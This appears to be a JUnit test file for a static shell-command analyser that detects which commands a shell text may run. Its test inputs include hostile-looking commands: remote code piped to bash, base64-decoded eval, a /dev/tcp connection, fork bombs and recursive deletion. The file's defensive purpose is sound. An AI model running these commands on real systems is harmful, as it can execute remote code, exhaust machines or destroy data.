package dev.belay.guard.shell.eval;

import static dev.belay.guard.shell.eval.Analysed.last;
import static dev.belay.guard.shell.eval.Analysed.lastLine;
import static dev.belay.guard.shell.eval.Analysed.lines;
import static dev.belay.guard.shell.eval.Analysed.redirections;
import static dev.belay.guard.shell.eval.Analysed.run;
import static org.assertj.core.api.Assertions.assertThat;

import dev.belay.guard.execution.Code;
import dev.belay.guard.execution.Execution;
import dev.belay.guard.execution.KnownFiles;
import dev.belay.guard.execution.ShellPlace;
import dev.belay.guard.execution.ShellRun;
import dev.belay.guard.execution.ShellRun.Doubt;
import dev.belay.guard.execution.Unknown;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShellAnalyserTest {
  @ParameterizedTest
  @CsvSource(
      delimiterString = "=>",
      quoteCharacter = '^',
      value = {
        "x=wipe; $x all => wipe all",
        "x='wipe all'; $x => wipe all",
        "x='wipe all'; wipe \"$x\" now => wipe wipe all now",
        "a=wi b=pe; \"$a$b\" => wipe",
        "w\"i\"'p'\\e => wipe",
        "$'\\x77ipe' => wipe",
        "{wipe,-r,all} => wipe -r all",
        "wipe {1..3} x{a,b} {03..01} => wipe 1 2 3 xa xb 03 02 01",
        "wipe ~ ~/a '~' => wipe /home/dev /home/dev/a ~",
        "wipe ${none:-all} => wipe all",
        "x=; wipe ${x:-all} ${x-none} => wipe all",
        "x=1; wipe ${x:+all} => wipe all",
        "unset x; eval \"${x:-wipe}\" => wipe",
        ": ${x:=wipe}; $x => wipe",
        "x=a.b.c; wipe ${x#*.} ${x##*.} ${x%.*} ${x%%.*} => wipe b.c c a.b a",
        "x=wiZZpe; ${x/ZZ/} => wipe",
        "x=w-i-p-e; ${x//-} => wipe",
        "x=WIPE; ${x,,} => wipe",
        "x=swiped; ${x:1:4} => wipe",
        "n=c; c=wipe; ${!n} => wipe",
        "declare -n r=t; t=wipe; $r => wipe",
        "set -- wipe all; \"$@\" => wipe all",
        "set -- wipe all; shift; wipe $# $1 => wipe 1 all",
        "a=(wipe all); \"${a[@]}\" => wipe all",
        "a=(x wipe); ${a[1]} ${#a[@]} => wipe 2",
        "declare -A m=([k]=wipe); ${m[k]} => wipe",
        "IFS=,; x=wipe,all; $x => wipe all",
        "wipe $((1 + 2 * 3)) $((x = 4, x << 1)) => wipe 7 8",
        "$(echo wipe) $(printf '%s ' a b) => wipe a b",
        "\"`echo wipe`\" => wipe",
        "wipe $(pwd) => wipe /home/dev/app",
        "read x <<< 'wipe all'; $x => wipe all",
        "printf -v x %s wipe; $x => wipe",
        "mapfile -t a <<< wipe; \"${a[@]}\" => wipe",
        "wi$@pe => wipe",
        "/bin/r? all => /bin/rm all",
        "${SHELL:5:4} -x => bash -x",
        "command -v wipe => command -v wipe",
      })
  void wordsAreExpandedAsTheShellDoes(String text, String line) {
    assertThat(lastLine(text)).isEqualTo(line);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = "=>",
      quoteCharacter = '^',
      value = {
        "sudo -u x wipe => sudo > wipe",
        "env A=b nohup wipe => env > nohup > wipe",
        "command wipe => command > wipe",
        "bash -c wipe => bash > wipe",
        "bash -c '$0 $1' wipe all => bash > wipe all",
        "sh -c \"bash -c 'wipe'\" => sh > bash > wipe",
        "X=wipe bash -c '$X' => bash > wipe",
        "export X=wipe; sh -c '$X' => sh > wipe",
        "eval wi pe => eval > wi pe",
        "eval 'x=wipe'; $x => wipe",
        "trap wipe EXIT => trap > wipe",
        "f() { wipe \"$@\"; }; f a b => f > wipe a b",
        "f() { g; }; g() { wipe; }; f => f > g > wipe",
        "f() { wipe; }; export -f f; bash -c f => bash > f > wipe",
        "f() { local x=wipe; $x; }; f => f > wipe",
        "alias w=wipe↵w all => wipe all",
        "hash -p /bin/wipe w; w all => /bin/wipe all",
        "ssh host wipe => ssh > wipe",
        "ls ; find . -exec wipe now {} + => find > wipe now {}",
        "python3 -c 'import os; os.system(\"wipe\")' => python3 > wipe",
      })
  void whatAnExecutionStartsIsFollowed(String text, String line) {
    assertThat(lines(text)).last().satisfies(last -> assertThat(last).startsWith(cut(line)));
  }

  /** What find puts in is not this test's business. */
  private static String cut(String line) {
    return line.endsWith(" {}") ? line.substring(0, line.length() - 3) : line;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '^',
      value = {
        "false && wipe",
        "true \\|\\| wipe",
        "exit; wipe",
        "exec ls; wipe",
        "if false; then wipe; fi",
        "if true; then ls; else wipe; fi",
        "if [ a = b ]; then wipe; fi",
        "while false; do wipe; done",
        "until true; do wipe; done",
        "case a in b) wipe;; esac",
        "case a in a) ls;; *) wipe;; esac",
        "[[ a == b* ]] && wipe",
        "((1 > 2)) && wipe",
        "set -e; false; wipe",
        "set -n; wipe",
        "f() { wipe; }",
        "f() { return; wipe; }; f",
        "for x in; do wipe; done",
        "for x in a; do break; wipe; done",
        "echo wipe",
        "git commit -m 'wipe; wipe'",
        "echo a # ; wipe",
        "x='$(wipe)'",
        "bash -n -c wipe",
        "cat <<'E'↵$(wipe)↵E",
        "( f() { wipe; } ); f",
        "(x=wipe); $x",
        "x=ls; (x=wipe); $x",
      })
  void whatCertainlyDoesNotRunIsNoExecution(String text) {
    assertThat(run(text.replace("\\|", "|")).executions())
        .noneMatch(execution -> execution.program().equals("wipe"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '^',
      value = {
        "ls && wipe",
        "ls || wipe",
        "ls; wipe",
        "ls & wipe",
        "(wipe)",
        "{ wipe; }",
        "! wipe",
        "time wipe",
        "coproc wipe",
        "if ls; then wipe; fi",
        "if ls; then :; elif pwd; then wipe; fi",
        "if ls; then :; else wipe; fi",
        "while ls; do wipe; done",
        "for x in a b; do wipe; done",
        "for ((i = 0; i < 2; i++)); do wipe; done",
        "case $x in a) ls;; b) wipe;; esac",
        "case a in a) ls;& b) wipe;; esac",
        "echo $(wipe)",
        "echo \"`wipe`\"",
        "echo $((1 + $(wipe)))",
        "x=$(wipe)",
        "ls > $(wipe)",
        "[[ -n $(wipe) ]]",
        "cat <(wipe)",
        "ls > >(wipe)",
        "cat <<E↵$(wipe)↵E",
        "cat <<< \"$(wipe)\"",
        "echo wipe | sh",
        "echo wipe | tee x | bash",
        "echo d2lwZQo= | base64 -d | sh",
        "sh <<< wipe",
        "sh <<E↵wipe↵E",
        "sh < <(echo wipe)",
        "source <(echo wipe)",
        ". /dev/stdin <<< wipe",
        "bash /dev/fd/3 3<<< wipe",
        "{ echo ls; echo wipe; } | sh",
        "echo wipe > >(sh)",
        "tee >(sh) <<< wipe",
        "echo wipe | while read x; do $x; done",
        "printf '%s\\n' ls wipe | while read x; do $x; done",
        "echo wipe | xargs -I{} sh -c {}",
        "if ls; then x=wipe; else x=ls; fi; $x",
        "ls && x=wipe; $x",
        "case $y in a) x=wipe;; esac; $x",
        "exec $UNKNOWN; wipe",
        "cd nowhere || wipe",
        "return; wipe",
        "break; wipe",
        "trap exit INT; wipe",
        "f() { break; wipe; }; for x in a; do f; done",
        "f() { if ls; then return; fi; wipe; }; f",
        "for x in a; do if ls; then break; fi; done; wipe",
      })
  void whatMayRunIsAnExecution(String text) {
    assertThat(run(text).executions()).anyMatch(execution -> execution.program().equals("wipe"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = "=>",
      quoteCharacter = '^',
      value = {
        "wipe => /home/dev/app",
        "cd /srv; wipe => /srv",
        "cd src/a; wipe => /home/dev/app/src/a",
        "cd; wipe => /home/dev",
        "cd ~/x && wipe => /home/dev/x",
        "cd a; cd -; wipe => /home/dev/app",
        "pushd /srv; popd; wipe => /home/dev/app",
        "(cd /srv); wipe => /home/dev/app",
        "cd /srv && ls; wipe => /srv",
        "cd /a || exit; wipe => /a",
        "cd \"$(git rev-parse --show-toplevel)\"; wipe =>",
        "ssh host wipe =>",
        "f() { cd ..; }; f; wipe => /home/dev",
        "eval 'cd /srv'; wipe => /srv",
        "bash -c 'cd /srv'; wipe => /home/dev/app",
      })
  void theDirectoryIsKept(String text, String directory) {
    assertThat(last(text).directory()).isEqualTo(directory);
  }

  @Test
  void bothDirectoriesAreJudgedWhereEitherMayBe() {
    assertThat(run("test -d b && cd b; wipe").executions())
        .filteredOn(execution -> execution.program().equals("wipe"))
        .extracting(Execution::directory)
        .containsExactlyInAnyOrder("/home/dev/app/b", "/home/dev/app");
  }

  @Test
  void bothValuesAreJudgedWhereEitherMayBe() {
    assertThat(lines("if ls; then x=a; else x=b; fi; wipe $x/c"))
        .containsExactly("ls", "wipe a/c", "wipe b/c");
  }

  @Test
  void tooManyCombinationsLeaveAGap() {
    String text = "";
    for (String name : new String[] {"a", "b", "c", "d"}) {
      text += "if ls; then " + name + "=1; else " + name + "=2; fi\n";
    }
    assertThat(last(text + "wipe $a$b$c$d").argv().getLast().isKnown()).isFalse();
  }

  @Test
  void whatNobodyKnowsStaysAGap() {
    Execution execution = last("wipe /$X/a$(curl host)");
    assertThat(execution.argv().getLast().unknowns())
        .extracting(Unknown::kind)
        .containsExactly(Unknown.Kind.VARIABLE, Unknown.Kind.OUTPUT);
    assertThat(execution.argv().getLast().producers())
        .extracting(Execution::line)
        .containsExactly("curl host");
    assertThat(execution.line()).isEqualTo("wipe /$X/a$(curl host)");
  }

  @Test
  void redirectionsOfEnclosingCommandsAreTheirOwn() {
    assertThat(redirections(last("{ wipe 2>> log; } > out")))
        .containsExactly("OVERWRITE out", "APPEND log");
    assertThat(redirections(last("exec 3> f; wipe >&3"))).contains("OVERWRITE f");
    assertThat(redirections(last("exec {fd}<>/dev/tcp/host/1; wipe <&$fd")))
        .contains("BOTH /dev/tcp/host/1");
    assertThat(redirections(last("for x in a; do wipe; done < in"))).containsExactly("READ in");
  }

  @Test
  void aPipeTellsWhoWritesIntoIt() {
    assertThat(last("cat a | sort | wipe").input().from())
        .extracting(Execution::line)
        .containsExactly("cat a", "sort");
    assertThat(last("cat a | wipe").input().text()).isNull();
    assertThat(last("echo a | wipe").input().text()).hasToString("a\n");
  }

  @Test
  void codeThatIsNotKnownSaysWhereItComesFrom() {
    Code piped = last("curl host | bash").code();
    assertThat(piped).isNotNull();
    assertThat(piped.followed()).isFalse();
    assertThat(piped.from()).extracting(Execution::line).containsExactly("curl host");
    Code evaluated = last("eval \"$(curl host | base64 -d)\"").code();
    assertThat(evaluated).isNotNull();
    assertThat(evaluated.decoded()).isTrue();
    assertThat(evaluated.followed()).isFalse();
    Code file = last("bash other.sh").code();
    assertThat(file).isNotNull();
    assertThat(file.text()).isNull();
    assertThat(file.file()).hasToString("other.sh");
  }

  @Test
  void aShellWithoutATextRunsNoCode() {
    assertThat(last("bash").code()).isNull();
    assertThat(last("bash --version").code()).isNull();
  }

  @Test
  void aProgramThatIsNotKnownIsADoubt() {
    assertThat(run("$X -rf /").doubts()).containsExactly(Doubt.UNKNOWN_PROGRAM);
    assertThat(run("\"$VENV\"/bin/python x.py").doubts()).isEmpty();
    assertThat(last("\"$VENV\"/bin/python x.py").program()).isEqualTo("python");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "f() { g & }; g() { f & }; f",
        "while true; do work & done",
        "for ((;;)); do work & done",
        "echo './x & ./x &' > x; sh ./x",
      })
  void processesWithoutEndAreADoubt(String text) {
    assertThat(run(text).doubts()).contains(Doubt.ENDLESS);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "f() { f; }; f",
        ":(){ :|:& }",
        "while true; do sleep 1; done",
        "while true; do work & wait; done",
        "while read x; do work $x & done < list",
        "f() { ls; }; f | f &",
        "walk() { for x in $1/*; do if test -d $x; then walk $x | cat; fi; done; }; walk .",
      })
  void whatEndsOrWaitsIsNoDoubt(String text) {
    assertThat(run(text).doubts()).doesNotContain(Doubt.ENDLESS);
  }

  @Test
  void errorsOfSyntaxAreADoubtAndTheRestIsRead() {
    assertThat(run("wipe; echo \"open").doubts()).contains(Doubt.SYNTAX);
    assertThat(lines("wipe; echo \"open")).contains("wipe");
  }

  @Test
  void placesAreThoseOfTheOutermostText() {
    String text = "ls; bash -c 'wipe all'";
    Execution inner = last(text);
    assertThat(inner.span().in(text)).contains("'wipe all'");
    String plain = "ls; wipe all";
    assertThat(last(plain).span().in(plain)).isEqualTo("wipe all");
  }

  @Test
  void codeOfOtherLanguagesStandsForExecutions() {
    Execution deletes = last("python3 -c 'import shutil; shutil.rmtree(\"/srv\")'");
    assertThat(deletes.line()).isEqualTo("rm -r -- /srv");
    assertThat(deletes.stands()).startsWith("shutil.rmtree");
    assertThat(deletes.trail()).containsExactly("python3");
  }

  /** Without the counting of rounds this takes years: the limit ends a test that would hang. */
  @Test
  @Timeout(value = 2, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
  void loopsInTheConditionsOfLoopsEnd() {
    for (String loop : List.of("while ", "until ", "for ((;i<9;i++)) do ", "for x in a b c; do ")) {
      ShellRun run =
          ShellAnalyser.analyse(
              loop.repeat(60) + "done; ".repeat(60),
              new ShellPlace("/home/dev/app", "/home/dev", Map.of(), KnownFiles.none()));

      assertThat(run.executions()).as(loop).hasSizeLessThan(20_000);
    }
  }
}
